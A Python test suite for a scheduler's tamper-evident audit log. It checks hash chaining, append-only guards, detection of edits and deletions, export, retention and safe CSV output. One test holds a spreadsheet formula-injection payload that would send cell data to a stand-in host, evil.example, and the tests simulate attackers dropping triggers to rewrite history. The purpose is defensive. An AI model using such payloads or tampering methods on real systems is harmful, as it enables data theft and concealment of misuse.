"""The audit log: chained, append-only, tampering found and located, export, retention."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scheduler.audit import (
    AuditEntry,
    AuditError,
    AuditLog,
    AuditQueryError,
    export,
    parse_time,
    verify,
)


class Clock:
    def __init__(self, t: float = 1_700_000_000.0) -> None:
        self.t = t

    def __call__(self) -> float:
        self.t += 1.0
        return self.t


def entry(i: int, user: str = "alice", op: str = "jobs.submit") -> AuditEntry:
    return AuditEntry(
        user=user,
        source_ip="127.0.0.1",
        object=f"job/{i}",
        operation=op,
        result="ok",
        reason="200",
        params={"i": i, "note": 'x,"y"\n'},
        correlation_id=f"req-{i}",
    )


def filled(tmp: Path, n: int = 10) -> AuditLog:
    log = AuditLog(tmp / "audit.db", clock=Clock())
    for i in range(1, n + 1):
        log.append(entry(i, user="alice" if i % 2 else "bob"))
    return log


def tamper(path: Path, *sql: str) -> None:
    """What an attacker with file access does: lift the guards, then change history."""
    db = sqlite3.connect(path, isolation_level=None)
    db.execute("DROP TRIGGER audit_no_update")
    db.execute("DROP TRIGGER audit_no_delete")
    for s in sql:
        db.execute(s)
    db.close()


def test_chain_verifies_and_head_is_published(tmp_path: Path) -> None:
    log = filled(tmp_path)
    res = verify(log.path)
    assert res.ok and res.checked == 10
    assert (res.head_seq, res.head_hash) == log.head()
    assert "ok: 10 records" in str(res)
    assert verify(log.path, expected_head=log.head()[1]).ok


def test_append_only_guard(tmp_path: Path) -> None:
    log = filled(tmp_path, 2)
    db = sqlite3.connect(log.path, isolation_level=None)
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("UPDATE audit SET result = 'denied' WHERE seq = 1")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        db.execute("DELETE FROM audit WHERE seq = 1")


@pytest.mark.parametrize(
    ("sql", "bad_seq", "words"),
    [
        (["UPDATE audit SET user = 'mallory' WHERE seq = 4"], 4, "edited"),
        (["UPDATE audit SET params = '{}' WHERE seq = 7"], 7, "edited"),
        (["DELETE FROM audit WHERE seq = 5"], 5, "missing (deleted)"),
        (
            ["DELETE FROM audit WHERE seq >= 9", "UPDATE chain SET seq = 8 WHERE name = 'head'"],
            9,
            "does not match its hash",
        ),
        (["DELETE FROM audit WHERE seq >= 9"], 9, "truncated"),
        # Swap records 3 and 4 (contents and numbers): the chain no longer links.
        (
            [
                "UPDATE audit SET seq = -3 WHERE seq = 3",
                "UPDATE audit SET seq = 3 WHERE seq = 4",
                "UPDATE audit SET seq = 4 WHERE seq = -3",
            ],
            3,
            "edited or moved",
        ),
    ],
)
def test_tampering_is_found_and_located(
    tmp_path: Path, sql: list[str], bad_seq: int, words: str
) -> None:
    log = filled(tmp_path)
    log.close()
    if words == "does not match its hash":
        # Truncation that also rewinds the head: the head hash no longer matches.
        words = "head says"
    tamper(log.path, *sql)
    res = verify(log.path)
    assert not res.ok
    assert res.bad_seq == bad_seq
    assert words in res.problem, res.problem
    assert f"TAMPERED at record {bad_seq}" in str(res)


def test_consistent_rewrite_is_caught_by_a_published_head(tmp_path: Path) -> None:
    from scheduler.audit.records import record_hash

    log = filled(tmp_path, 3)
    published = log.head()[1]
    log.close()
    db = sqlite3.connect(log.path, isolation_level=None)
    db.execute("DROP TRIGGER audit_no_update")
    prev = "0" * 64
    for row in db.execute("SELECT * FROM audit ORDER BY seq").fetchall():
        seq, ts, user, ip, obj, op, params, result, reason, cid, _, _ = row
        user = "mallory"
        h = record_hash(seq, ts, user, ip, obj, op, params, result, reason, cid, prev)
        db.execute(
            "UPDATE audit SET user = ?, prev_hash = ?, hash = ? WHERE seq = ?",
            (user, prev, h, seq),
        )
        prev = h
    db.execute("UPDATE chain SET hash = ? WHERE name = 'head'", (prev,))
    db.close()
    assert verify(log.path).ok  # a perfect forgery verifies on its own ...
    res = verify(log.path, expected_head=published)
    assert not res.ok and "history rewritten" in res.problem  # ... but not against the anchor


def test_query_and_export_filters(tmp_path: Path) -> None:
    log = filled(tmp_path)
    t0 = 1_700_000_000.0
    recs = log.query(since=t0 + 3, until=t0 + 7, user="alice")
    assert [r.seq for r in recs] == [3, 5]
    assert [r.seq for r in log.query(limit=2)] == [9, 10]
    buf = io.StringIO()
    n = export(log.path, out=buf, fmt="csv", user="bob", operation="jobs.submit")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert n == 5 and [int(r["seq"]) for r in rows] == [2, 4, 6, 8, 10]
    assert json.loads(rows[0]["params"]) == {"i": 2, "note": 'x,"y"\n'}
    assert rows[0]["time"].endswith("Z") and rows[0]["source_ip"] == "127.0.0.1"
    buf = io.StringIO()
    export(log.path, out=buf, fmt="jsonl", since="2023-11-14T22:13:25Z")
    lines = [json.loads(x) for x in buf.getvalue().splitlines()]
    assert [x["seq"] for x in lines] == [5, 6, 7, 8, 9, 10]
    assert set(lines[0]) >= {"time", "user", "source_ip", "object", "operation", "params",
                             "result", "reason", "correlation_id"}  # fmt: skip
    with pytest.raises(AuditQueryError):
        export(log.path, out=buf, fmt="xml")
    with pytest.raises(AuditQueryError):
        log.query(since="next tuesday")


def test_parse_time() -> None:
    assert parse_time("1700000000") == 1_700_000_000.0
    assert parse_time("2023-11-14T22:13:20Z") == 1_700_000_000.0
    assert parse_time("2023-11-14T22:13:20") == 1_700_000_000.0  # naive means UTC
    assert parse_time(None) is None


def test_retention_archives_and_the_chain_still_verifies(tmp_path: Path) -> None:
    clock = Clock()
    arch = tmp_path / "audit-archive.db"
    log = AuditLog(tmp_path / "audit.db", clock=clock, retention_seconds=5.5, archive_path=arch)
    for i in range(1, 11):
        log.append(entry(i))
    # now = t0 + 11: records older than t0 + 5.5 (seq 1..5) move.
    assert log.apply_retention() == 5
    assert [r.seq for r in log.query()] == [6, 7, 8, 9, 10]
    assert verify(log.path).ok  # the live log verifies from its anchor
    res = verify(log.path, archive=arch)
    assert res.ok and res.checked == 10
    for i in range(11, 16):
        log.append(entry(i))
    assert log.apply_retention() == 5  # 6..10 (11 was written after the first retention run)
    res = verify(log.path, archive=arch)
    assert res.ok and res.checked == 15
    log.close()
    tamper(arch, "UPDATE audit SET result = 'x' WHERE seq = 2")
    res = verify(log.path, archive=arch)
    assert not res.ok and res.bad_seq == 2 and "in the archive" in res.problem


def test_retention_with_a_foreign_archive_is_refused(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "a.db", clock=Clock())
    for i in range(5):
        log.append(entry(i))
    log.archive(1_700_000_003.5, tmp_path / "arch.db")
    other = AuditLog(tmp_path / "b.db", clock=Clock())
    other.append(entry(1))
    other.archive(1e12, tmp_path / "other-arch.db")
    log.append(entry(9))
    with pytest.raises(AuditError, match="matching archive"):
        log.archive(1e12, tmp_path / "other-arch.db")
    with pytest.raises(AuditError, match="needs an archive_path"):
        AuditLog(tmp_path / "c.db", retention_seconds=1.0)


def test_archiving_resumes_after_a_crash_between_its_two_steps(tmp_path: Path) -> None:
    log = filled(tmp_path, 6)
    arch = tmp_path / "arch.db"
    log.archive(1_700_000_003.5, arch)  # 1..3 archived
    # Simulate the crash: the archive got 4..5, the live log was not trimmed.
    src = sqlite3.connect(log.path)
    rows = src.execute("SELECT * FROM audit WHERE seq IN (4, 5) ORDER BY seq").fetchall()
    src.close()
    a = sqlite3.connect(arch, isolation_level=None)
    a.executemany("INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?,?,?)", rows)
    a.execute("UPDATE chain SET seq = 5, hash = ? WHERE name = 'head'", (rows[-1][-1],))
    a.close()
    assert log.archive(1_700_000_005.5, arch) == 2
    res = verify(log.path, archive=arch)
    assert res.ok and res.checked == 6


@settings(max_examples=40, deadline=None)
@given(
    users=st.lists(st.text(max_size=8), min_size=1, max_size=8),
    victim=st.integers(0, 7),
    field=st.sampled_from(["user", "object", "reason", "ts", "correlation_id"]),
)
def test_any_single_edit_is_detected(
    tmp_path_factory: pytest.TempPathFactory, users: list[str], victim: int, field: str
) -> None:
    tmp = tmp_path_factory.mktemp("edit")
    log = AuditLog(tmp / "audit.db", clock=Clock())
    log.append_many([entry(i, user=u) for i, u in enumerate(users)])
    log.close()
    seq = victim % len(users) + 1
    value = "1.5" if field == "ts" else "'\u00e9dit\u00e9'"
    tamper(tmp / "audit.db", f"UPDATE audit SET {field} = {value} WHERE seq = {seq}")  # noqa: S608
    res = verify(tmp / "audit.db")
    original = users[seq - 1]
    if field == "user" and original == "\u00e9dit\u00e9":
        assert res.ok  # not an edit at all
    else:
        assert not res.ok and res.bad_seq == seq


def test_two_writers_on_one_file_keep_one_chain(tmp_path: Path) -> None:
    """Each writer caches the head; the database refuses a stale one and the writer retries."""
    a = AuditLog(tmp_path / "a.db", clock=Clock())
    b = AuditLog(tmp_path / "a.db", clock=Clock())
    for i in range(4):
        (a if i % 2 else b).append_many([entry(i), entry(i + 10)])
    assert [r.seq for r in a.query()] == list(range(1, 9))
    res = verify(a.path)
    assert res.ok and res.checked == 8
    a.close()
    b.close()


def test_a_record_that_does_not_continue_the_head_is_refused_by_the_database(
    tmp_path: Path,
) -> None:
    log = filled(tmp_path, 2)
    db = sqlite3.connect(log.path, isolation_level=None)
    row = db.execute("SELECT * FROM audit WHERE seq = 2").fetchone()
    forged = (3, *row[1:10], "f" * 64, "e" * 64)  # claims a prev_hash that is not the head's
    with pytest.raises(sqlite3.IntegrityError, match="does not continue the chain head"):
        db.execute("INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?,?,?)", forged)
    db.close()
    assert verify(log.path).ok


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path, start: str) -> None:
    """Formula injection: each cell that starts like a formula gets a leading quote;
    JSON Lines keeps the exact value."""
    log = AuditLog(tmp_path / "audit.db", clock=Clock())
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    log.append(
        AuditEntry(
            user=payload,
            source_ip=payload,
            object=payload,
            operation=payload,
            result=payload,
            reason=payload,
            params={"note": "ok"},
            correlation_id=payload,
        )
    )
    log.append(entry(2))  # ordinary values stay as they are
    buf = io.StringIO()
    export(log.path, out=buf, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    for name in ("user", "source_ip", "object", "operation", "result", "reason", "correlation_id"):
        assert rows[0][name] == "'" + payload, name
    assert rows[1]["user"] == "alice" and rows[1]["reason"] == "200"
    assert json.loads(rows[1]["params"]) == {"i": 2, "note": 'x,"y"\n'}
    buf = io.StringIO()
    export(log.path, out=buf, fmt="jsonl")
    assert json.loads(buf.getvalue().splitlines()[0])["user"] == payload
